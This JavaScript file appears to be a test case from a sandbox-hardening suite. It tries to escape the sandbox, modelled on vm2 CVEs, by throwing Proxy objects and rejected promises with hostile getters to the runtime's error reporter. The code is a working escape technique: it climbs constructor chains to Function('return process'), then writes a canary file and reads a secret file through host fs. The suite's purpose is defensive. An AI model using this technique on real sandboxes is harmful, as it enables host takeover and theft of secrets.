// attack: throw Proxies and hostile objects out of the script so the RUNTIME handles them: promise rejections left unhandled, a rejected body, and finally an uncaught Proxy whose get/getPrototypeOf/ownKeys/getOwnPropertyDescriptor/has traps climb every argument the runtime's error reporter passes (and an error whose name/message/toString are getters or Symbols)
// source: CVE-2023-30547 (vm2 handleException and a thrown Proxy), CVE-2023-37466 / CVE-2026-22709 (rejection handlers fed unsanitised values); vm2 ATTACKS.md Category 4
// needs: none
// category: escape
// expect: contained - E_SCRIPT with a bounded message; the reporter reads only name/message and hands the traps nothing of the host
const ID = '107-proxy-thrown-values';
// canary payload: does something only when handed the real host `process` / node:fs
const pwnFs = (nfs) => {
  nfs.mkdirSync('/tmp/sesame-canary', { recursive: true });
  nfs.writeFileSync('/tmp/sesame-canary/' + ID, 'escaped by ' + ID);
  return nfs.readFileSync('/tmp/sesame-secret/secret.txt', 'utf8');
};
const pwn = (proc) => pwnFs(typeof proc.getBuiltinModule === 'function' ? proc.getBuiltinModule('fs') : proc.mainModule.require('fs'));
const msg = (e) => { try { return String((e && e.message) || e).slice(0, 120); } catch (_) { return 'unprintable'; } };
const tried = [];
let untold = 0;
const note = (s) => { if (tried.length < 90) tried.push(s); else untold++; };
const attempt = async (label, thunk) => {
  try { const s = await thunk(); if (s) return { escaped: label, secret: s }; note(label + ': nothing'); }
  catch (e) { note(label + ': ' + msg(e)); }
  return undefined;
};
// every road from a value to a Function constructor: its own constructor chain and its prototypes'
const met = new Set();
const climb = async (label, v) => {
  const roads = [];
  const add = (how, f) => { if (typeof f === 'function' && !met.has(f)) { met.add(f); roads.push([how, f]); } };
  let o = v;
  for (let i = 0; i < 5 && o !== null && (typeof o === 'object' || typeof o === 'function'); i++) {
    try { add('.constructor', o.constructor); } catch (e) {}
    try { add('.constructor.constructor', o.constructor.constructor); } catch (e) {}
    try { o = Object.getPrototypeOf(o); } catch (e) { break; }
  }
  for (const [how, F] of roads) {
    const r = await attempt(label + how, () => pwn(F('return process')()));
    if (r) return r;
  }
  return undefined;
};
const climbAll = async (pairs) => {
  // a snapshot: climbing may run the attack's own traps, which record more values
  for (const [label, v] of pairs.slice(0, 2500)) { const r = await climb(label, v); if (r) return r; }
  return undefined;
};
const values = [];
const traps = (label) => ({
  get(t, k, r) { values.push([label + ' get ' + String(k) + ' receiver', r]); if (k === 'message') return report(); if (k === 'name') return 'ProxyError'; return Reflect.get(t, k, r); },
  getPrototypeOf(t) { values.push([label + ' getPrototypeOf args', arguments]); return Reflect.getPrototypeOf(t); },
  ownKeys(t) { values.push([label + ' ownKeys args', arguments]); return Reflect.ownKeys(t); },
  getOwnPropertyDescriptor(t, k) { values.push([label + ' gopd ' + String(k), arguments]); return Reflect.getOwnPropertyDescriptor(t, k); },
  has(t, k) { values.push([label + ' has ' + String(k), arguments]); return Reflect.has(t, k); },
});
let reported = false;
let leaked;
const report = () => {
  // runs synchronously inside the runtime's error reporter: climb whatever it handed us
  if (!reported) {
    reported = true;
    for (const [label, v] of values.slice(0, 400)) {
      let o = v;
      for (let i = 0; i < 4 && o && (typeof o === 'object' || typeof o === 'function'); i++) {
        try { const p = o.constructor.constructor('return process')(); if (p) { leaked = pwn(p); break; } } catch (e) { note(label + ': ' + msg(e)); }
        try { o = Object.getPrototypeOf(o); } catch (e) { break; }
      }
      if (leaked) break;
    }
  }
  return 'blocked: ' + JSON.stringify(tried.slice(0, 12)).slice(0, 1500);
};
// unhandled rejections with hostile reasons: the runtime must not touch them
Promise.reject(new Proxy(new Error('unhandled'), traps('unhandled')));
Promise.reject({ get message() { values.push(['unhandled getter this', this]); return 'x'; } });
const symbolName = new Error('symbol name'); symbolName.name = Symbol('n');
Promise.reject(symbolName);
for (let i = 0; i < 5; i++) await null;
throw new Proxy(new Error('thrown proxy'), traps('thrown'));
